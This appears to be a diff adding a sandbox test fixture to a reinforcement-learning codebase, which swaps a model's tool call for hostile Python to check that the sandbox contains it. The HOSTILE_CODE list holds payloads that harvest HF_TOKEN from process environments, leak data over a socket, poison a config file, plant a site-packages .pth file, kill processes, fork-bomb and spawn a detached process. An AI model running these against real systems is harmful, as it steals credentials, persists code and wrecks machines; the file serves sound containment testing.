@@ -25,3 +25,57 @@ class ThreeTurns:
 class NotAnEnvironment:
     def reset(self, sample):
         return []
+
+
+# Model-written code as an attacker writes it: HostilePython puts one of these in place of the sampled assistant
+# turn, as a `python` tool call, and runs it through the real ToolEnv and sandbox (tests/test_sandbox.py).
+HOSTILE_CODE = [
+    "import os\nfound = str(os.environ)\nfor p in os.listdir('/proc'):\n    try: found += str(open(f'/proc/{p}/environ', "
+    "'rb').read())\n    except OSError: pass\nassert 'HF_TOKEN' in found, 'no token found'\nprint(found)",
+    "import socket, os\ns = socket.create_connection(('127.0.0.1', int('{port}')), timeout=2); s.sendall(b'LEAK')",
+    "open('{run_dir}/config.yaml', 'w').write('POISON')",
+    "open('{site}/rl_lora_evil.pth', 'w').write('import os')",
+    "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(-1, signal.SIGKILL)",
+    "import os, time\nwhile True:\n    if os.fork() == 0: time.sleep(60)",
+    "while True: print('x' * 100000)",
+    "import os\nif os.fork() == 0:\n    os.setsid()\n    os.execvp('sleep', ['sleep', '93.21'])",
+]
+
+
+class HostilePython:
+    """A tool episode whose first assistant turn is replaced by a hostile `python` call; the tool's answer is logged
+    (HOSTILE_LOG) and the episode ends on the next turn."""
+    calls = 0
+
+    def __init__(self):
+        import os
+        import sysconfig
+
+        from envs.sandbox import open_sandbox
+        from envs.tool_env import ToolCalls, ToolEnv
+        from envs.tools import resolve_tools
+
+        self.values = {"port": os.environ["HOSTILE_PORT"], "run_dir": os.environ["HOSTILE_RUN_DIR"],
+                       "site": sysconfig.get_paths()["purelib"]}
+        self.log = os.environ["HOSTILE_LOG"]
+        self.tools = ToolEnv(resolve_tools("python"), ToolCalls(sandbox=open_sandbox("bwrap")))
+
+    def reset(self, sample):
+        self.turn = 0
+        return self.tools.reset(sample)
+
+    def step(self, assistant_text):
+        import json
+
+        self.turn += 1
+        if self.turn > 1:
+            return StepResult(done=True, reward=float("the" in assistant_text))
+        code = HOSTILE_CODE[HostilePython.calls % len(HOSTILE_CODE)]
+        for key, value in self.values.items():
+            code = code.replace("{" + key + "}", value)
+        HostilePython.calls += 1
+        result = self.tools.step(f'<tool_call>{json.dumps({"name": "python", "arguments": {"code": code}})}'
+                                 "</tool_call>")
+        with open(self.log, "a") as log:
+            log.write(json.dumps({"code": code, "answer": result.messages[0]["content"]}) + "\n")
+        return result
